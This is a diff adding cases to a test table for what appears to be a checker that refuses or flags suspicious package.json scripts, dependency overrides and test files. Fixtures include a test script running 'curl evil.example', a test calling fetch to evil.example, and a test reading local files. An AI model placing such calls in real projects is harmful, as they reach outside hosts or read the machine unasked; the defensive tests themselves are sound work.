@@ -106,6 +106,27 @@ const CASES: readonly Case[] = [
     ...pack({ scripts: { build: "vite build", postinstall: "x" } }),
     "refused",
   ],
+  [
+    "a script for tests without vitest",
+    ...pack({ scripts: { build: "vite build", test: "vitest run" } }),
+    "refused",
+  ],
+  [
+    "a script that only says it is for tests",
+    ...pack({
+      scripts: { build: "vite build", test: "curl evil.example" },
+      devDependencies: { vitest: "5.1.1" },
+    }),
+    "refused",
+  ],
+  [
+    "a test that reads the machine",
+    ...write("tests/App.test.tsx", 'import { readFileSync } from "node:fs";'),
+    "refused",
+  ],
+  ["a test that tells", ...write("tests/App.test.tsx", 'fetch("https://evil.example")'), "asked"],
+  ["a test’s settings", ...write("tests/vitest.config.ts"), "refused"],
+  ["a page among the tests", ...write("tests/page.html"), "refused"],
   ["overrides", ...pack({ overrides: { react: "npm:evil@1.0.0" } }), "refused"],
   [
     "a package by address",
